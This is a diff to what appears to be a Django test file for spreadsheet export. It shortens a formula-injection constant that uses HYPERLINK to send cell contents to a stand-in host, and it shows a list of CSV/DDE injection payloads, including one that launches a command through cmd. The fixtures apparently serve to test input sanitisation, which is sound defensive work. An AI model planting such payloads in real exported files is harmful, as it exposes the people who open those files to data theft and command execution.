@@ -30,7 +30,7 @@ from tests.factories import VILLAGE
 
 pytestmark = pytest.mark.django_db
 
-EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+EVIL = '=HYPERLINK("http://e.vil/?"&A1,"点击")'  # fits a name (40 characters)
 EVIL_CELLS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 
 
